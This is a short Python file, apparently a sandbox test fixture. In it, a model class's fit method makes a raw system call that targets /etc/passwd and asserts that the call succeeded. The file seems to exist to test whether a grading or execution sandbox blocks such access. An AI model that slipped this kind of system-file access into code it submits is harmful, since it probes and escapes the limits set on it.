import struct

from helpers import Honest, succeeded, system_call


class Model(Honest):
    def fit(self, X, y):
        succeeded(
            system_call(
                303, 264, -100, b"/etc/passwd", struct.pack("=I", 128) + bytes(132), bytearray(8), 0
            )
        )
